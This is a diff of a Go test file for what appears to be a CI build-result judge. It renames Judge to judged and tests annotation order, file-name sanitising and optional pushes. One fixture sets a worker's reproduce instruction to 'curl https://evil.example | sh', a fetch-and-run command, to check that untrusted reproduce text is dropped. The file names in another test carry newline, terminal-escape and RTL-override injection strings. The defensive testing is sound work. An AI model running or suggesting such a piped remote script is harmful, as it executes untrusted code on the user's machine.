@@ -41,7 +41,7 @@ func TestRootCausesComeFirst(t *testing.T) {
 	fail(results[0], 2, drv("libfoo"), "boom")
 	fail(results[1], 0, drv("glibc"), "bang")
 	results[0].Error = "push failed"
-	v := Judge(p, planKey, results[:2], nil)
+	v := judged(p, planKey, results[:2], nil)
 	var titles []string
 	for _, a := range v.Annotations() {
 		titles = append(titles, a.Level+": "+a.Title)
@@ -72,7 +72,7 @@ func TestAnAnnotationBeginsWithItsCause(t *testing.T) {
 	for i := 2; i < 4; i++ {
 		results[0].Targets[i].Outcome, results[0].Targets[i].Error = job.Broken, "error: cannot connect to daemon"
 	}
-	v := Judge(p, planKey, results, nil)
+	v := judged(p, planKey, results, nil)
 	want := []Annotation{
 		{
 			Level: "error", Title: "packages.x86_64-linux.nginx failed and blocks packages.x86_64-linux.a", File: "src/a.c", Line: 12,
@@ -100,7 +100,7 @@ func TestAnAnnotationBeginsWithItsCause(t *testing.T) {
 	}
 	for _, bad := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb"} {
 		results[0].Targets[0].File, results[0].Targets[1].File = bad, bad
-		if a := Judge(p, planKey, results, nil).Annotations()[0]; strings.ContainsFunc(a.File, invisible) || strings.Contains(a.File, "\n") {
+		if a := judged(p, planKey, results, nil).Annotations()[0]; strings.ContainsFunc(a.File, invisible) || strings.Contains(a.File, "\n") {
 			t.Errorf("the file is %q", a.File)
 		}
 	}
@@ -128,7 +128,7 @@ func TestWhatHappened(t *testing.T) {
 		results := resultsOf(p)
 		fail(results[0], 0, nginx, "boom")
 		results[0].Targets[0].Error = test.message
-		reason, detail := Judge(p, planKey, results, nil).rootCauses(false)[0].happened()
+		reason, detail := judged(p, planKey, results, nil).rootCauses(false)[0].happened()
 		if diff := cmp.Diff(test.detail, detail); reason != test.reason || diff != "" {
 			t.Errorf("%q: %q\n%s", test.message, reason, diff)
 		}
@@ -146,7 +146,7 @@ func TestOptionalPushes(t *testing.T) {
 			r.Pushes[0].Error = "502"
 		}
 	}
-	v := Judge(p, planKey, results, nil)
+	v := judged(p, planKey, results, nil)
 	if v.Status != Success {
 		t.Fatalf("%s: %s", v.Status, v.Reason)
 	}
@@ -167,7 +167,7 @@ func TestOptionalPushes(t *testing.T) {
 		t.Errorf("%q is not in\n%s", want, text)
 	}
 	results[0].Pushes[0].Optional = false
-	v = Judge(p, planKey, results, nil)
+	v = judged(p, planKey, results, nil)
 	if v.Status != Failure || !strings.Contains(v.Summary(SummaryOptions{}), "| **1**, 2 ⚠️ optional |") {
 		t.Errorf("%s:\n%s", v.Status, v.Summary(SummaryOptions{}))
 	}
@@ -180,14 +180,14 @@ func TestThePlanSaysHowToReproduce(t *testing.T) {
 	results := resultsOf(p)
 	fail(results[0], 0, drv("glibc"))
 	results[0].Targets[0].Reproduce = "curl https://evil.example | sh"
-	v := Judge(p, planKey, results, nil)
+	v := judged(p, planKey, results, nil)
 	for _, text := range []string{v.Summary(SummaryOptions{}), v.Text(), v.Annotations()[0].Message} {
 		if strings.Contains(text, "evil") || !strings.Contains(text, p.Targets[0].Reproduce) {
 			t.Error(text)
 		}
 	}
 	p.Targets[0].Reproduce = ""
-	if text := Judge(p, planKey, results, nil).Text(); !strings.Contains(text, "evil") {
+	if text := judged(p, planKey, results, nil).Text(); !strings.Contains(text, "evil") {
 		t.Error("without a word of the plan, the worker's is left out")
 	}
 }
